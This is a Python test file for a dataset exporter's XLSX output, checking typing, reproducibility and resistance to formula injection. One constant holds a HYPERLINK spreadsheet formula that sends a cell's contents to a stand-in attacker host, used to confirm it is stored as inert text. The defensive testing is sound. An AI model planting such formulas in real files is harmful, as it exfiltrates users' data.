"""peacetalks.xlsx as openpyxl and pandas read it: the CSVs' rows, typed, exact text, no formula, reproducible."""

from __future__ import annotations

import datetime as dt
import io
import json
import shutil
import warnings
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
from hypothesis import example, given, settings
from hypothesis import strategies as st

from peacetalks.export import DOWNLOADS, tables, xlsx
from peacetalks.load import load
from tests.conftest import RECORDS

from .conftest import HOSTILE, PANDAS_TYPES, csv_tables, descriptor, export

HYPERLINK = '=HYPERLINK("https://evil.example/steal?c="&A1,"click me")'


def workbook(out: Path) -> Any:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        book = openpyxl.load_workbook(out / xlsx.XLSX)
    assert [str(w.message) for w in caught] == []
    return book


def cell_value(value: Any, kind: str) -> Any:
    """A cell as openpyxl reads it, in the form csv_tables gives (dates as ISO text)."""
    if isinstance(value, dt.datetime):
        assert kind == "date" and value.time() == dt.time(0)
        return value.date().isoformat()
    return value


def test_every_sheet_holds_its_csv_rows_typed_and_exact(exported: tuple[Path, Path]) -> None:
    _, out = exported
    book = workbook(out)
    resources = descriptor(out)["resources"]
    assert book.sheetnames == ["README", *(r["name"] for r in resources)]
    from_csv = csv_tables(out)
    expected_type = {"string": "s", "list": "s", "boolean": "b", "integer": "n", "date": "d"}
    for resource in resources:
        sheet = book[resource["name"]]
        fields = resource["schema"]["fields"]
        rows = list(sheet.iter_rows())
        assert [c.value for c in rows[0]] == [f["name"] for f in fields], resource["name"]
        assert all(c.data_type == "s" and c.font.b for c in rows[0])
        assert sheet.freeze_panes == "A2", resource["name"]
        assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(fields))}{len(rows)}"
        assert len(rows) - 1 == len(from_csv[resource["name"]]), resource["name"]
        for line, csv_row in zip(rows[1:], from_csv[resource["name"]], strict=True):
            for cell, field in zip(line, fields, strict=True):
                expected = csv_row[field["name"]]
                assert cell_value(cell.value, field["type"]) == expected, (resource["name"], field["name"], cell.value, expected)
                if expected is not None:
                    assert cell.data_type == expected_type[field["type"]], (resource["name"], field["name"], cell.data_type)
                    if field["type"] == "date":
                        assert cell.number_format == "yyyy-mm-dd"
        for index, field in enumerate(fields, start=1):
            width = sheet.column_dimensions[openpyxl.utils.get_column_letter(index)].width
            assert xlsx.MIN_WIDTH <= width <= xlsx.MAX_WIDTH and width >= min(xlsx.MAX_WIDTH, len(field["name"]) + 2)


def test_pandas_reads_every_sheet_as_the_csv(exported: tuple[Path, Path]) -> None:
    _, out = exported
    from_csv = csv_tables(out)
    for resource in descriptor(out)["resources"]:
        kinds = {f["name"]: f["type"] for f in resource["schema"]["fields"]}
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            # text columns as text, as for the CSV (pandas would read the text '2024' as a number)
            frame = pd.read_excel(
                out / xlsx.XLSX,
                sheet_name=resource["name"],
                engine="openpyxl",
                dtype={name: PANDAS_TYPES[kind] for name, kind in kinds.items() if kind in ("string", "list")},
                keep_default_na=False,
                na_values=[""],
            )
        assert [str(w.message) for w in caught] == []
        assert list(frame.columns) == list(kinds), resource["name"]
        for name, kind in kinds.items():
            if kind == "date" and frame[name].notna().any():
                assert str(frame[name].dtype).startswith("datetime64"), (resource["name"], name)

        def python(value: Any, kind: str) -> Any:
            if value is None or value is pd.NaT or (isinstance(value, float) and value != value):
                return None
            if kind == "date":
                return value.date().isoformat()
            if kind == "integer":
                assert float(value).is_integer()
                return int(value)
            if kind == "boolean":
                assert value in (True, False, 1.0, 0.0)  # 1.0/0.0 in a column with empty cells
                return bool(value)
            return value

        rows = [{k: python(v, kinds[k]) for k, v in row.items()} for row in frame.to_dict("records")]
        assert rows == from_csv[resource["name"]], resource["name"]


def test_no_cell_is_a_formula_and_formula_like_text_is_exact(hostile_export: Path) -> None:
    book = workbook(hostile_export)
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@'\t\r\n":
                    seen.add(cell.value)
    assert {"=1+1", "+1 alias", "@alias, with comma", "'=already quoted"} <= seen, "exact text, no apostrophe added"
    assert "'=1+1" not in seen and "''=already quoted" not in seen
    with zipfile.ZipFile(hostile_export / xlsx.XLSX) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == len(descriptor(hostile_export)["resources"]) + 1
        assert not any("<f>" in archive.read(n).decode("utf-8") or "<f " in archive.read(n).decode("utf-8") for n in sheets)
    summit = {r[0].value: r for r in book["meetings"].iter_rows()}["evil-summit"]
    names = [c.value for c in next(book["meetings"].iter_rows())]
    assert summit[names.index("place_text")].value == "\t@SUM(A1) in the synthetic capital"
    assert summit[names.index("start_reasoning")].value.startswith("\r\nCR-led"), "a carriage return survives the XML"


def test_a_hyperlink_formula_in_a_record_is_a_string_cell(tmp_path: Path) -> None:
    records = shutil.copytree(HOSTILE, tmp_path / "records")
    path = records / "demands" / "other-demand.json"
    data = json.loads(path.read_text("utf-8"))
    data["title"] = HYPERLINK
    data["summary"] = "#N/A"
    path.write_text(json.dumps(data, ensure_ascii=False, indent=2) + "\n", encoding="utf-8")
    out = export(records, tmp_path / "data")
    sheet = workbook(out)["demands"]
    names = [c.value for c in next(sheet.iter_rows())]
    row = {r[0].value: r for r in sheet.iter_rows(min_row=2)}["other-demand"]
    title, summary = row[names.index("title")], row[names.index("summary")]
    assert title.data_type == "s" and title.value == HYPERLINK
    assert summary.data_type == "s" and summary.value == "#N/A", "not an error cell"
    frame = pd.read_excel(out / xlsx.XLSX, sheet_name="demands", engine="openpyxl", keep_default_na=False)
    assert frame.set_index("id").loc["other-demand", "title"] == HYPERLINK
    with (out / "demands.csv").open(encoding="utf-8") as stream:
        assert "'=HYPERLINK(" in stream.read(), "the CSV escapes it; the workbook needs not"


def test_the_readme_sheet_describes_the_dataset_every_sheet_and_column(real_export: Path) -> None:
    book = workbook(real_export)
    readme = book.worksheets[0]
    assert readme.title == "README"
    lines = [[c.value for c in row if c.value is not None] for row in readme.iter_rows()]
    package = descriptor(real_export)
    assert lines[0] == [package["title"]]
    assert ["Version", package["version"]] in lines and ["Created", package["created"]] in lines
    assert any(line[:1] == ["Licence"] and "CC-BY-4.0" in line[1] for line in lines)
    resources = package["resources"]
    for resource in resources:
        rows = len(list(book[resource["name"]].iter_rows())) - 1
        assert [resource["name"], rows, resource["description"]] in lines, resource["name"]
        for field in resource["schema"]["fields"]:
            described = [line for line in lines if line[:2] == [resource["name"], field["name"]]]
            assert len(described) == 1 and described[0][-1] == field["description"], (resource["name"], field["name"])
            assert ("list" in described[0][2]) == (field["type"] == "list")
    assert xlsx.XLSX in dict(DOWNLOADS)


def test_two_exports_give_the_same_bytes_dated_by_the_package(real_export: Path, tmp_path: Path) -> None:
    again = export(RECORDS, tmp_path / "again")
    assert (real_export / xlsx.XLSX).read_bytes() == (again / xlsx.XLSX).read_bytes()
    created = descriptor(real_export)["created"]
    moment = dt.datetime.strptime(created, "%Y-%m-%dT%H:%M:%SZ")
    with zipfile.ZipFile(real_export / xlsx.XLSX) as archive:
        assert {info.date_time for info in archive.infolist()} == {moment.timetuple()[:6]}
        core = archive.read("docProps/core.xml").decode("utf-8")
    assert core.count(f">{created}<") == 2, "created and modified are the package's time, not the clock"
    properties = workbook(real_export).properties
    assert properties.created == properties.modified == moment
    dated = export(HOSTILE, tmp_path / "dated", SOURCE_DATE_EPOCH="1700000000")
    with zipfile.ZipFile(dated / xlsx.XLSX) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2023, 11, 14, 22, 13, 20)}


def test_what_a_cell_cannot_hold_is_made_to_fit_without_failing() -> None:
    assert xlsx.text("=exact\r\n\ttext") == "=exact\r\n\ttext"
    assert xlsx.text("bell\x07 and \ufffe") == "bell\ufffd and \ufffd"
    long = ";".join(f"synthetic-actor-{i:05}" for i in range(3000))
    cut = xlsx.text(long)
    assert len(cut) == xlsx.MAX_CELL and cut.endswith(xlsx.CUT) and long.startswith(cut.removesuffix(xlsx.CUT))
    dataset, problems = load(HOSTILE)
    assert not problems
    rows = tables.rows(dataset)
    names = [c.name for c in tables.schema().tables["demands"].columns]
    first = list(rows["demands"][0])
    first[names.index("title")] = "control\x01character"
    first[names.index("related")] = long
    first[names.index("first_raised_first")] = "1900-02-28"  # Excel's calendar cannot show it: ISO text
    first[names.index("first_raised_last")] = "1900-03-01"  # the first day it can
    rows["demands"][0] = tuple(first)
    data = xlsx.workbook_bytes(list(tables.tables()), rows, "0.0.0", "2001-02-03T04:05:06Z")
    sheet = openpyxl.load_workbook(io.BytesIO(data))["demands"]
    values = [c.value for c in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert values[names.index("title")] == "control\ufffdcharacter"
    assert values[names.index("related")] == cut
    assert values[names.index("first_raised_first")] == "1900-02-28"
    assert values[names.index("first_raised_last")] == dt.datetime(1900, 3, 1)


_AWKWARD = st.one_of(
    st.none(),
    st.text(alphabet=st.sampled_from(["a", " ", "\u2003", "\x1c", "\x00", "\x07", "&", "<", ">", "\r", "\n", "\ufffe", "é"]), max_size=6),
    st.integers(),
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_AWKWARD, max_size=8))
@example(["ends in a space ", "b"])
@example(["a", " begins with one"])
@example(["\u2003", "a&b<c>\r"])
@example(["joined\x00within", "bell\x07"])
def test_a_text_column_at_once_is_its_cells_one_by_one(values: list[Any]) -> None:
    """The column's values escaped in one pass give the cells written one at a time: white space
    at either end, the character that joins them, XML-illegal characters, markup, non-text."""
    numbers = range(2, len(values) + 2)
    assert xlsx._text_cells("C", numbers, values) == [xlsx._each_text_cell("C", n, v) for n, v in zip(numbers, values, strict=True)]


def test_a_column_with_a_value_too_long_for_a_cell_is_cut_as_one_cell_is() -> None:
    values = ["short", "x" * (xlsx.MAX_CELL + 5), None]
    cells = xlsx._text_cells("A", range(2, 5), values)
    assert cells == [xlsx._each_text_cell("A", n, v) for n, v in zip(range(2, 5), values, strict=True)]
    assert xlsx.CUT in cells[1] and cells[2] == ""
